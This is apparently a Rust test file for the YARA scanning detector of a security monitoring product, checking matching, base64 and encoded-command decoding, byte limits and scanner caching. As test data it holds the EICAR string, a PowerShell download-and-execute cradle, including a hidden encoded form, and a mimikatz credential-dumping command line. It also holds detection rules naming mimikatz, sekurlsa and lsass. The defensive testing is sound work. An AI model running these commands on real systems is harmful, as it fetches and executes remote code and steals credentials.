use std::sync::atomic::Ordering;

use arrow::array::Array;
use base64::Engine;
use vedette_core::alert::Level;
use vedette_core::event::{Event, EventBatchBuilder};

use super::*;

const BUNDLED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/yara");

/// The EICAR test string, assembled so that no file of the repository holds it whole.
fn eicar() -> String {
    [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
        "EICAR-STANDARD-ANTIVIRUS-TEST-FILE",
        "!$H+H*",
    ]
    .concat()
}

fn detector(limits: YaraLimits) -> YaraDetector {
    let set = YaraSet::load(&[PathBuf::from(BUNDLED)], Vec::new()).unwrap();
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    YaraDetector::new(set, &[], limits).unwrap()
}

fn batch() -> EventBatch {
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/s.ps1')";
    let utf16: Vec<u8> = cradle.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let rows = [
        Event {
            id: "e0".into(),
            host_name: Some("h0".into()),
            payload: Some(format!("upload: {}", eicar()).into_bytes()),
            ..Event::default()
        },
        Event {
            id: "e1".into(),
            host_name: Some("h1".into()),
            process_command_line: Some(format!("cmd /c echo {} > t.txt", b64(eicar().as_bytes()))),
            ..Event::default()
        },
        Event {
            id: "e2".into(),
            host_name: Some("h2".into()),
            process_command_line: Some(format!(
                "powershell.exe -NoP -W Hidden -enc {}",
                b64(&utf16)
            )),
            ..Event::default()
        },
        Event {
            id: "e3".into(),
            host_name: Some("h3".into()),
            fields: vec![("ScriptBlockText".into(), cradle.into())],
            ..Event::default()
        },
        Event {
            id: "e4".into(),
            host_name: Some("h4".into()),
            process_command_line: Some("notepad.exe report.txt".into()),
            ..Event::default()
        },
    ];
    let mut b = EventBatchBuilder::new();
    for e in &rows {
        b.append(e);
    }
    EventBatch::new(b.finish().unwrap(), "test", "acme", 0)
}

#[test]
fn fields_and_decoded_content_are_scanned_and_alerts_say_where() {
    let d = detector(YaraLimits::default());
    assert_eq!(d.rule_count(), 2);
    let alerts = d.detect(&batch()).unwrap();
    let got: Vec<(String, String, String)> = alerts
        .iter()
        .map(|a| {
            (
                a.event_ids[0].clone(),
                a.rule_id.clone(),
                a.matched["yara.fields"].clone(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (
                "e0".into(),
                "eicar_test_file:eicar_test_file".into(),
                "payload".into()
            ),
            (
                "e1".into(),
                "eicar_test_file:eicar_test_file".into(),
                "process.command_line(base64)".into()
            ),
            (
                "e2".into(),
                "powershell_download_cradle:powershell_download_cradle".into(),
                "process.command_line(encodedcommand)".into()
            ),
            (
                "e3".into(),
                "powershell_download_cradle:powershell_download_cradle".into(),
                "ScriptBlockText".into()
            ),
        ]
    );
    let a = &alerts[0];
    assert_eq!(a.kind, DetectionKind::Yara);
    assert_eq!(a.level, Level::Low);
    assert_eq!(a.rule_author.as_deref(), Some("Vedette team"));
    assert_eq!(a.tags, ["test"]);
    assert_eq!(a.host.as_deref(), Some("h0"));
    assert_eq!(a.matched["yara.patterns"], "payload: $eicar@36+34");
    assert!(
        !a.matched.values().any(|v| v.contains("X5O")),
        "never the scanned data"
    );
    assert_eq!(alerts[2].level, Level::High);
    assert!(d.stats.decoded.load(Ordering::Relaxed) >= 2);
    // Seven values (four fields, three decoded blobs); the prefilter passes over those
    // that hold none of the rules' strings (the notepad command line among them).
    let scanned = d.stats.scans.load(Ordering::Relaxed);
    let passed_over = d.stats.passed_over.load(Ordering::Relaxed);
    assert_eq!(scanned + passed_over, 7);
    assert!(passed_over >= 1 && scanned >= 3, "{scanned} scanned");
}

#[test]
fn a_value_past_the_byte_limit_is_cut_and_counted() {
    let d = detector(YaraLimits {
        max_scan_bytes: 20,
        timeout: Duration::from_secs(1),
    });
    let alerts = d.detect(&batch()).unwrap();
    assert!(
        !alerts.iter().any(|a| a.event_ids[0] == "e0"),
        "the match lies past the first 20 bytes"
    );
    assert!(d.stats.truncated.load(Ordering::Relaxed) >= 1);
}

#[test]
fn a_rule_file_that_does_not_compile_is_reported_and_the_rest_load() {
    let set = YaraSet::compile(&[
        (
            "good.yar".into(),
            "rule good { strings: $a = \"abc\" condition: $a }".into(),
        ),
        ("bad.yar".into(), "rule bad { condition: $missing }".into()),
        (
            "thor.yar".into(),
            "rule thor { condition: filename == \"x.exe\" or extension == \".dll\" }".into(),
        ),
    ]);
    assert_eq!(set.files, 2);
    assert_eq!(set.errors.len(), 1);
    assert_eq!(set.errors[0].0, PathBuf::from("bad.yar"));
    assert!(set.errors[0].1.contains("missing"), "{}", set.errors[0].1);
    assert_eq!(set.rule_count(), 2);
    assert_eq!(
        namespace(Path::new("dir/gen-webshells.v2.yar")),
        "gen_webshells_v2"
    );
}

#[test]
fn matches_become_a_column_for_the_detectors_after() {
    let d = detector(YaraLimits::default());
    let (alerts, marked) = d.detect_and_mark(&batch()).unwrap();
    assert!(!alerts.is_empty());
    let column = marked
        .records
        .column_by_name(YARA_RULES_COLUMN)
        .unwrap()
        .as_any()
        .downcast_ref::<arrow::array::StringArray>()
        .unwrap()
        .clone();
    assert_eq!(column.len(), marked.records.num_rows());
    for alert in &alerts {
        let event = alert.event_ids[0].trim_start_matches('e');
        let row: usize = event.parse().unwrap();
        assert!(column.value(row).contains(&alert.rule_id), "{alert:?}");
    }
    // The row that matched nothing has no value; marking again replaces the column.
    assert!(column.is_null(4));
    let (_, again) = d.detect_and_mark(&marked).unwrap();
    assert_eq!(again.records.num_columns(), marked.records.num_columns());
}

#[test]
fn rules_the_prefilter_cannot_tell_are_scanned_apart_on_every_value_and_said_once() {
    let set = YaraSet::compile(&[
        (
            "told.yar".into(),
            "rule told { strings: $a = \"mimikatz\" condition: $a }".into(),
        ),
        (
            "mixed.yar".into(),
            concat!(
                "import \"math\"\n",
                "rule tiny { condition: filesize < 9 }\n",
                "rule named { strings: $b = \"sekurlsa\" condition: $b }\n",
                "rule either { strings: $c = \"lsass\" condition: $c or math.entropy(0, filesize) > 7.9 }\n",
            )
            .into(),
        ),
    ]);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    let mut open = set.unfiltered_rules().to_vec();
    open.sort();
    assert_eq!(open, ["either", "tiny"]);
    let d = YaraDetector::new(set, &[], YaraLimits::default()).unwrap();
    let line = |id: &str, cmd: &str| Event {
        id: id.into(),
        host_name: Some("h".into()),
        process_command_line: Some(cmd.into()),
        ..Event::default()
    };
    let mut b = EventBatchBuilder::new();
    for e in [
        line("short", "whoami"),
        line("plain", "notepad.exe C:\\Users\\me\\report.txt"),
        line("both", "mimikatz sekurlsa::logonpasswords lsass"),
    ] {
        b.append(&e);
    }
    let batch = EventBatch::new(b.finish().unwrap(), "t", "default", 0);
    let alerts = d.detect(&batch).unwrap();
    let mut found: Vec<(String, String)> = alerts
        .iter()
        .map(|a| (a.event_ids[0].clone(), a.rule_id.clone()))
        .collect();
    found.sort();
    assert_eq!(
        found,
        [
            ("both".to_string(), "mixed:either".to_string()),
            ("both".to_string(), "mixed:named".to_string()),
            ("both".to_string(), "told:told".to_string()),
            ("short".to_string(), "mixed:tiny".to_string()),
        ]
    );
    // Every value met the open rules; only the one holding a string met the whole set.
    assert_eq!(d.stats.open_scans.load(Ordering::Relaxed), 3);
    assert_eq!(d.stats.scans.load(Ordering::Relaxed), 1);
    assert_eq!(d.stats.passed_over.load(Ordering::Relaxed), 2);
    // One alert per event and rule: `either` matched in both sets, said once.
    let either = alerts.iter().find(|a| a.rule_id == "mixed:either").unwrap();
    assert_eq!(either.matched["yara.fields"], "process.command_line");
}

/// Matches of a detector over one command line each, as (event, rule).
fn matches(d: &YaraDetector, lines: &[(&str, &str)]) -> Vec<(String, String)> {
    let mut b = EventBatchBuilder::new();
    for (id, cmd) in lines {
        b.append(&Event {
            id: (*id).into(),
            host_name: Some("h".into()),
            process_command_line: Some((*cmd).into()),
            ..Event::default()
        });
    }
    let batch = EventBatch::new(b.finish().unwrap(), "t", "default", 0);
    let mut found: Vec<(String, String)> = d
        .detect(&batch)
        .unwrap()
        .into_iter()
        .map(|a| (a.event_ids[0].clone(), a.rule_id))
        .collect();
    found.sort();
    found
}

#[test]
fn open_rules_that_name_others_are_scanned_with_their_whole_file() {
    let set = YaraSet::compile(&[(
        "named.yar".into(),
        concat!(
            "rule base { strings: $a = \"beacon\" condition: $a }\n",
            "rule small { condition: filesize < 10 }\n",
            "rule big_base { condition: base and filesize > 5 }\n",
        )
        .into(),
    )]);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    let d = YaraDetector::new(set, &[], YaraLimits::default()).unwrap();
    assert_eq!(
        matches(&d, &[("short", "whoami"), ("long", "run beacon.exe now")]),
        [
            ("long".to_string(), "named:base".to_string()),
            ("long".to_string(), "named:big_base".to_string()),
            ("short".to_string(), "named:small".to_string()),
        ]
    );
}

#[test]
fn a_file_that_fails_halfway_leaves_none_of_its_rules_behind() {
    let set = YaraSet::compile(&[
        (
            "half.yar".into(),
            "rule first { strings: $a = \"zzz\" condition: $a }\nrule broken { condition: $nope }"
                .into(),
        ),
        (
            "fine.yar".into(),
            "rule fine { strings: $a = \"yyy\" condition: $a }".into(),
        ),
    ]);
    assert_eq!(set.errors.len(), 1);
    assert_eq!(set.rule_count(), 1);
    let d = YaraDetector::new(set, &[], YaraLimits::default()).unwrap();
    // Not even on a value over 64 KiB, which goes to the whole set.
    let long = format!("zzz yyy {}", "x".repeat(70_000));
    assert_eq!(
        matches(&d, &[("short", "zzz yyy"), ("long", &long)]),
        [
            ("long".to_string(), "fine:fine".to_string()),
            ("short".to_string(), "fine:fine".to_string()),
        ]
    );
}

#[test]
fn scan_threads_keep_their_scanners_from_batch_to_batch() {
    let d = YaraDetector::with_threads(
        YaraSet::load(&[PathBuf::from(BUNDLED)], Vec::new()).unwrap(),
        &[],
        YaraLimits::default(),
        1,
    )
    .unwrap();
    let first = d.detect(&batch()).unwrap();
    let built = d.stats.scanners_built.load(Ordering::Relaxed);
    assert!(built >= 1, "the first batch needed scanners");
    for _ in 0..5 {
        let again = d.detect(&batch()).unwrap();
        assert_eq!(again.len(), first.len());
    }
    assert_eq!(
        d.stats.scanners_built.load(Ordering::Relaxed),
        built,
        "later batches reuse them"
    );
}

#[test]
fn a_scan_thread_holds_a_bounded_number_of_file_scanners() {
    // More files than a thread keeps scanners for, each with its own string.
    let files = scan::MAX_UNIT_SCANNERS + 40;
    let sources: Vec<(PathBuf, String)> = (0..files)
        .map(|i| {
            (
                PathBuf::from(format!("f{i}.yar")),
                format!("rule r{i} {{ strings: $a = \"marker{i:04}x\" condition: $a }}"),
            )
        })
        .collect();
    let set = YaraSet::compile(&sources);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    let scanning = Scanning {
        set,
        fields: vec!["process.command_line".into()],
        limits: YaraLimits::default(),
        stats: Arc::new(YaraStats::default()),
    };
    let mut b = EventBatchBuilder::new();
    for i in 0..files {
        b.append(&Event {
            id: format!("e{i}"),
            host_name: Some("h".into()),
            process_command_line: Some(format!("run marker{i:04}x now")),
            ..Event::default()
        });
    }
    let records = b.finish().unwrap();
    let mut scanners = scan::Scanners::default();
    let hits = scanning.scan_rows(&records, 0..files, &mut scanners);
    assert_eq!(hits.len(), files, "every file's rule matched its own row");
    assert_eq!(scanners.held(), scan::MAX_UNIT_SCANNERS);
    // The files used last are still held: scanning their rows again builds nothing.
    let built = scanning.stats.scanners_built.load(Ordering::Relaxed);
    let recent = files - 10..files;
    let again = scanning.scan_rows(&records, recent, &mut scanners);
    assert_eq!(again.len(), 10);
    assert_eq!(scanning.stats.scanners_built.load(Ordering::Relaxed), built);
    // The first file's were dropped: both (of its relaxed rules, which scan its group,
    // and of its own) are built again, and two others are dropped.
    let again = scanning.scan_rows(&records, 0..1, &mut scanners);
    assert_eq!(again.len(), 1);
    assert_eq!(
        scanning.stats.scanners_built.load(Ordering::Relaxed),
        built + 2
    );
    assert_eq!(scanners.held(), scan::MAX_UNIT_SCANNERS);
}

#[test]
fn values_scanned_in_a_group_match_as_they_match_alone() {
    // Private strings, `xor fullword` and a greedy `fullword` regex: the relaxed rules
    // that scan a group must still find each value that matches alone.
    let set = YaraSet::compile(&[(
        "edges.yar".into(),
        concat!(
            "rule priv { strings: $a = \"evilprivate\" private condition: $a }\n",
            "rule xorfw { strings: $a = \"evilxor\" xor(0x41) fullword condition: $a }\n",
            "rule refw { strings: $a = /evilre\\W*/ fullword condition: $a }\n",
        )
        .into(),
    )]);
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    assert!(
        set.relaxed.iter().all(Option::is_some),
        "the unit is relaxed"
    );
    let d = YaraDetector::with_threads(set, &[], YaraLimits::default(), 1).unwrap();
    let xored: String = "evilxor".bytes().map(|b| char::from(b ^ 0x41)).collect();
    let lines = [
        ("near1", "xevilrex and xevilprivat"),
        ("private", "evilprivate"),
        ("near2", "zz evilrexx"),
        ("xor", xored.as_str()),
        ("near3", "yy xevilre"),
        ("regex", "evilre"),
        ("near4", "evilrea"),
    ];
    assert_eq!(
        matches(&d, &lines),
        [
            ("private".to_string(), "edges:priv".to_string()),
            ("regex".to_string(), "edges:refw".to_string()),
            ("xor".to_string(), "edges:xorfw".to_string()),
        ]
    );
    assert!(d.stats.group_scans.load(Ordering::Relaxed) >= 1);
}
